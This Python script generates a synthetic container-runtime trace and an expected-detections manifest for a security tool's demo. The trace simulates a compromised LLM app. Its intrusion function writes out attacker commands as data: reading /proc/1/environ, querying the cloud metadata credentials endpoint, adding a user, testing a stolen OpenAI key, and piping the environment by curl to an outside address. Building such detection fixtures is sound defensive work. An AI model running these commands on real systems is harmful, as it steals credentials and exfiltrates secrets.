"""Regenerate the openai-app demo's runtime trace: ``runtime/openai-app.jsonl.gz``.

    python examples/openai-app/make_runtime_trace.py [--out DIR]

The trace is what ``jackwatch sensor run --events`` recorded on the EKS node ``ip-10-0-3-17`` while pod
``support/openai-app-6f9d8c7b5-k2x4q`` ran the app's image (``image/``), from its start on 2025-06-09 to the
intrusion of 2025-06-10:

- 2025-06-09 09:30: containerd starts the container; ``python3.11 -m uvicorn main:app`` imports its packages — the
  files it opens are the modules that the RECORD files of the image's ``fastapi``, ``aiohttp`` and ``langchain``
  distributions list (as the ``__pycache__`` files Python reads), chosen with a seeded generator; gradio, mlflow,
  llama-index, langchain-experimental, Pillow and transformers are installed and never loaded;
- all day: the app connects to Bedrock (``bedrock-runtime.us-east-1.amazonaws.com``), now and then to OpenAI, its
  fallback, and loads a few more langchain modules the first time the fallback answers;
- 2025-06-10 13:52: the app is exploited. Its Python process starts shells: ``id``, ``cat /proc/1/environ`` (the
  keys are in the container's environment), a request to the instance metadata service, ``useradd -d /dev/shm/zeus
  nairobi``, ``curl`` checking the OpenAI key against ``api.openai.com`` (the key redacted, as the sensor redacts
  command lines), and the environment sent to ``5.75.213.87`` — the Hetzner address the stolen AWS key is first
  used from, ten minutes later, in the CloudTrail trace.

Records have the sensor's shape (``jackwatch.model.runtime``). The output is deterministic: seeded, written as gzip
with a fixed header, so the committed file is exactly what this script writes. ``README.md`` tells the story.
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from random import Random
from typing import Any

import orjson

from jackwatch.inventory.image import open_image
from jackwatch.inventory.python_env import installed_distributions
from jackwatch.sensor.redact import redact_args
from jackwatch.sources.stats import ReadStats

HERE = Path(__file__).resolve().parent
IMAGE = HERE / "image"
TRACE = "runtime/openai-app.jsonl.gz"
MANIFEST = "expected/runtime.json"
SEED = 20250609

HOST = "ip-10-0-3-17"
POD_IP = "10.42.1.17"
KUBE_DNS = "10.42.0.10"
CONTAINER = {
    "id": "bd77b794276150b39b69dd501f05f3765ad79109016185371ba16dccd4e570cd",
    "runtime": "containerd",
    "name": "openai-app",
    "image": "123456789012.dkr.ecr.us-east-1.amazonaws.com/openai-app:1.4.2",
    "pod": "openai-app-6f9d8c7b5-k2x4q",
    "namespace": "support",
    "pod_uid": "5c1f0a6e-2b7d-4f3e-9a61-0d84c2b7e913",
}
STARTED = datetime(2025, 6, 9, 9, 30, tzinfo=UTC)
EXPLOITED = datetime(2025, 6, 10, 13, 52, 3, tzinfo=UTC)
LOADED = ("fastapi", "aiohttp", "langchain")
"""The distributions the app imports (``main.py``: fastapi, langchain's ChatOpenAI, which brings aiohttp)."""
LAZY = ("langchain/chat_models/openai.py", "langchain/callbacks/openai_info.py", "langchain/adapters/openai.py")
"""Modules imported the first time the OpenAI fallback answers (those of them the release has)."""
LANGCHAIN_SHARE = 0.45
"""The share of langchain's other modules its import loads."""

BEDROCK = ("bedrock-runtime.us-east-1.amazonaws.com", "52.94.133.131")
OPENAI = ("api.openai.com", "162.159.140.245")
IMDS = "169.254.169.254"
DROP = "5.75.213.87"
"""Where the intruder sends the environment: the Hetzner address of the key checker in the CloudTrail trace."""

NS = 1_000_000_000
O_RDONLY_CLOEXEC = 0o2000000
O_RDWR_CLOEXEC = 0o2000002
EINPROGRESS = -115

SHELL = {"exe": "/bin/sh", "exepath": "/usr/bin/dash", "name": "sh"}
"""``/bin/sh`` is Debian's dash; the kernel reports the link's target as the executable."""
SYSTEMD = {"pid": 1, "name": "systemd", "exe": "/usr/lib/systemd/systemd", "args": ["--system"]}
SHIM = {
    "pid": 40988,
    "name": "containerd-shim",
    "exe": "/usr/bin/containerd-shim-runc-v2",
    "args": ["-namespace", "k8s.io", "-id", CONTAINER["id"], "-address", "/run/containerd/containerd.sock"],
}


def ns(moment: datetime) -> int:
    """``moment`` in nanoseconds since the epoch."""
    return int(moment.timestamp()) * NS + moment.microsecond * 1000


@dataclass
class Process:
    """A process of the container: its ``proc`` section and its lineage (parent first)."""

    pid: int
    vpid: int
    start: int
    exe: str
    exepath: str
    name: str
    args: list[str]
    lineage: list[dict[str, Any]]
    uid: int = 0
    cwd: str = "/srv/app"
    fds: int = 3
    ports: Iterator[int] = field(default_factory=lambda: iter(range(41000, 60000, 7)))

    def info(self) -> dict[str, Any]:
        """The ``proc`` section of a record."""
        return {
            "pid": self.pid,
            "ppid": self.lineage[0]["pid"],
            "vpid": self.vpid,
            "exe": self.exe,
            "exepath": self.exepath,
            "name": self.name,
            "args": self.args,
            "cwd": self.cwd,
            "uid": self.uid,
            "gid": 0,
            "euid": self.uid,
            "loginuid": -1,
            "tty": 0,
            "sid": 1,
            "start": self.start,
            "exe_upper_layer": False,
        }

    def ancestor(self) -> dict[str, Any]:
        """This process as an entry of its children's lineage."""
        return {"pid": self.pid, "name": self.name, "exe": self.exe, "exepath": self.exepath,
                "args": self.args, "start": self.start}  # fmt: skip


class Trace:
    """The records of the trace, in time order."""

    def __init__(self) -> None:
        self.records: list[dict[str, Any]] = []
        self.next_pid = 48290
        self.next_vpid = 40

    def record(self, kind: str, time: int, process: Process, **extra: Any) -> None:
        """Add a record of ``kind`` for ``process``."""
        self.records.append({
            "type": kind,
            "time": time,
            "proc": process.info(),
            "lineage": process.lineage,
            "host": HOST,
            "container": CONTAINER,
            "user": {"uid": process.uid, "name": "root"},
            "group": {"gid": 0, "name": "root"},
            **extra,
        })  # fmt: skip

    def open(self, time: int, process: Process, path: str, flags: int = O_RDONLY_CLOEXEC) -> None:
        """A successful open of ``path``."""
        self.record("openat", time, process, res=process.fds, fd={"type": "file", "name": path, "flags": flags})

    def connect(self, time: int, process: Process, address: str, port: int, name: str | None = None) -> None:
        """A TCP connection to ``address:port`` (named ``name`` when the sensor saw the DNS answer), with the DNS
        query before it when there is a name."""
        if name is not None:
            sport = next(process.ports)
            udp = {"type": "ipv4", "sip": POD_IP, "sport": sport, "dip": KUBE_DNS, "dport": 53, "l4proto": "udp",
                   "name": f"{POD_IP}:{sport}->{KUBE_DNS}:53"}  # fmt: skip
            self.record("connect", time - 2_000_000, process, res=0, fd=udp)
        sport = next(process.ports)
        fd = {"type": "ipv4", "sip": POD_IP, "sport": sport, "dip": address, "dport": port, "l4proto": "tcp",
              "name": f"{POD_IP}:{sport}->{address}:{port}"}  # fmt: skip
        if name is not None:
            fd["dns"] = name
        self.record("connect", time, process, res=EINPROGRESS, fd=fd)

    def spawn(self, time: int, parent: Process, exepath: str, argv: list[str]) -> Process:
        """``parent`` forks a child that executes ``exepath`` with ``argv`` (redacted as the sensor redacts it):
        the clone and execve records; the child."""
        pid, vpid = self.next_pid, self.next_vpid
        self.next_pid += 1 + (pid % 3)
        self.next_vpid += 1
        self.record("clone", time, parent, res=pid, child_pid=pid)
        name = SHELL["name"] if exepath == SHELL["exepath"] else exepath.rpartition("/")[2][:15]
        argv = redact_args(argv)
        child = Process(
            pid, vpid, time + 40_000, argv[0], exepath, name, argv[1:], [parent.ancestor(), *parent.lineage]
        )
        self.record("execve", time + 90_000, child, res=0)
        return child

    def exit(self, time: int, process: Process, code: int = 0) -> None:
        """``process`` exits with ``code``."""
        self.record("procexit", time, process, exit_code=code)

    def shell(self, time: int, parent: Process, command: str, program: str, args: list[str]) -> tuple[Process, ...]:
        """``sh -c COMMAND`` started by ``parent``, running ``program`` with ``args``: (the program, the shell)."""
        sh = self.spawn(time, parent, SHELL["exepath"], [SHELL["exe"], "-c", command])
        return self.spawn(time + 600_000, sh, program, [program.rpartition("/")[2], *args]), sh

    def finish(self, time: int, processes: tuple[Process, ...], code: int = 0) -> None:
        """The processes exit, innermost first (the first with ``code``, the others with its status or 0)."""
        for step, process in enumerate(processes):
            self.exit(time + step * 150_000, process, code)


def modules(paths: list[str], site: str, rng: Random, share: float) -> list[str]:
    """The ``__pycache__`` files and extension modules an import of these files reads: every ``__init__`` and a
    ``share`` of the other modules (all of them at 1.0), in a plausible import order."""
    chosen = []
    for path in paths:
        if not path.startswith(site) or "/__pycache__/" in path:
            continue
        if path.endswith(".so"):
            chosen.append("/" + path)
        elif path.endswith(".py") and (path.endswith("/__init__.py") or rng.random() < share):
            folder, _, module = path.rpartition("/")
            chosen.append(f"/{folder}/__pycache__/{module.removesuffix('.py')}.cpython-311.pyc")
    return chosen


def build_trace() -> tuple[list[dict[str, Any]], dict[str, Any]]:
    """The records of the story, in time order, and the manifest of what jackwatch must find in them."""
    rng = Random(SEED)
    with open_image(IMAGE) as root:
        packages = {package.name: package for package in installed_distributions(root, list(root.files()), ReadStats())}
        env = dict(item.partition("=")[::2] for item in root.config.env)
        CONTAINER["image_id"] = root.image_id.removeprefix("sha256:")
    site = "usr/local/lib/python3.11/site-packages/"
    trace = Trace()
    start = ns(STARTED)
    app = Process(41007, 1, start, "python3.11", "/usr/local/bin/python3.11", "python3.11",
                  ["-m", "uvicorn", "main:app", "--host", "0.0.0.0", "--port", "8080"], [SHIM, SYSTEMD])  # fmt: skip
    trace.record("execve", start, app, res=0)
    time = start + 20_000_000
    lazy = [f"/{site}{path.removesuffix('.py').rpartition('/')[0]}/__pycache__/{path.rpartition('/')[2][:-3]}"
            ".cpython-311.pyc" for path in LAZY if f"{site}{path}" in packages["langchain"].files]  # fmt: skip
    for name in LOADED:
        share = LANGCHAIN_SHARE if name == "langchain" else 1.0
        for path in modules(sorted(packages[name].files), site, rng, share):
            if path in lazy:
                continue
            trace.open(time, app, path)
            time += rng.randint(150_000, 2_500_000)
    # a day of traffic: connections to Bedrock, now and then to OpenAI (the fallback)
    moment = start + 4 * NS
    end = ns(EXPLOITED) - 90 * NS
    first_fallback = True
    while moment < end:
        if rng.random() < 0.15:
            trace.connect(moment, app, OPENAI[1], 443, OPENAI[0])
            if first_fallback:
                for step, path in enumerate(lazy):
                    trace.open(moment - (len(lazy) - step) * 3_000_000, app, path)
                first_fallback = False
        else:
            trace.connect(moment, app, BEDROCK[1], 443, BEDROCK[0])
        moment += rng.randint(25 * 60, 70 * 60) * NS + rng.randint(0, NS)
    useradd = intrusion(trace, app, ns(EXPLOITED), env["OPENAI_API_KEY"])
    trace.records.sort(key=lambda record: record["time"])
    return trace.records, manifest(trace.records, sorted(packages), useradd)


EXPECTED = {
    "runtime.shell_from_ai_server": 6,
    "runtime.llm_credential_read": 2,
    "runtime.imds_access": 1,
    "runtime.user_home_in_tmpfs": 1,
    "runtime.user_mgmt_in_container": 1,
    "runtime.llm_api_egress_new_process": 1,
}
"""The runtime rules the intrusion fires, with their number of events; no other runtime rule fires."""


def manifest(records: list[dict[str, Any]], packages: list[str], useradd: Process) -> dict[str, Any]:
    """What jackwatch must find in the trace: the detections, the process in focus, the packages' states."""
    return {
        "format": 1,
        "trace": {
            "path": "runtime",
            "records": len(records),
            "files": 1,
            "host": HOST,
            "start": iso(records[0]["time"]),
            "end": iso(records[-1]["time"]),
        },
        "container": {key: CONTAINER[key] for key in ("id", "name", "pod", "namespace", "image", "image_id")},
        "exploited": iso(ns(EXPLOITED)),
        "expected": [{"rule_id": rule, "events": events} for rule, events in EXPECTED.items()],
        "focus": {
            "rule_id": "runtime.user_home_in_tmpfs",
            "pid": useradd.pid,
            "parents": [entry["pid"] for entry in useradd.lineage[:2]],
        },
        "in_use": {name: "in_use" if name in LOADED else "not_seen" for name in packages},
    }


def iso(time: int) -> str:
    """A time in nanoseconds as ISO-8601 UTC, to the microsecond."""
    moment = datetime.fromtimestamp(time // NS, UTC).replace(microsecond=time % NS // 1000)
    return moment.isoformat().replace("+00:00", "Z")


def intrusion(trace: Trace, app: Process, time: int, openai_key: str) -> Process:
    """What the intruder runs through the exploited app; the ``useradd`` process."""
    started = trace.shell(time, app, "id", "/usr/bin/id", [])
    trace.finish(time + 3_000_000, started)
    time += 2 * NS
    started = trace.shell(time, app, "cat /proc/1/environ", "/usr/bin/cat", ["/proc/1/environ"])
    trace.open(time + 800_000, started[0], "/proc/1/environ")
    trace.finish(time + 2_000_000, started)
    time += 3 * NS
    command = "curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    started = trace.shell(time, app, command, "/usr/bin/curl", command.split()[1:])
    trace.connect(time + 5_000_000, started[0], IMDS, 80)
    trace.finish(time + 2_005_000_000, started, code=28)  # curl: operation timed out (IMDSv2 hop limit)
    time += 3 * NS
    started = trace.shell(time, app, "useradd -d /dev/shm/zeus nairobi", "/usr/sbin/useradd",
                          ["-d", "/dev/shm/zeus", "nairobi"])  # fmt: skip
    for step, path in enumerate(("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow")):
        trace.open(time + 900_000 + step * 300_000, started[0], path, O_RDWR_CLOEXEC)
    trace.finish(time + 4_000_000, started)
    useradd = started[0]
    time += 9 * NS
    header = f"Authorization: Bearer {openai_key}"
    command = f"curl -s https://api.openai.com/v1/models -H '{header}'"
    started = trace.shell(time, app, command, "/usr/bin/curl", ["-s", "https://api.openai.com/v1/models", "-H", header])
    trace.connect(time + 5_000_000, started[0], OPENAI[1], 443, OPENAI[0])
    trace.finish(time + 420_000_000, started)
    time += 11 * NS
    command = f"cat /proc/1/environ | curl -s --data-binary @- http://{DROP}:8080/k"
    sh = trace.spawn(time, app, SHELL["exepath"], [SHELL["exe"], "-c", command])
    cat = trace.spawn(time + 500_000, sh, "/usr/bin/cat", ["cat", "/proc/1/environ"])
    curl = trace.spawn(
        time + 600_000, sh, "/usr/bin/curl", ["curl", "-s", "--data-binary", "@-", f"http://{DROP}:8080/k"]
    )
    trace.open(time + 900_000, cat, "/proc/1/environ")
    trace.exit(time + 1_200_000, cat)
    trace.connect(time + 3_000_000, curl, DROP, 8080)
    trace.finish(time + 180_000_000, (curl, sh))
    return useradd


def write(records: list[dict[str, Any]], path: Path) -> None:
    """``records`` as gzip JSON Lines with a fixed header (no name, no time): the same records, the same bytes."""
    body = b"".join(orjson.dumps(record) + b"\n" for record in records)
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0, filename="") as stream:
        stream.write(body)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(buffer.getvalue())


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=HERE, help="The demo directory to write runtime/ into.")
    arguments = parser.parse_args()
    records, expected = build_trace()
    write(records, arguments.out / TRACE)
    (arguments.out / MANIFEST).write_text(json.dumps(expected, indent=2) + "\n", encoding="utf-8")
    print(f"{len(records)} records → {arguments.out / TRACE}; {arguments.out / MANIFEST}")


if __name__ == "__main__":
    main()
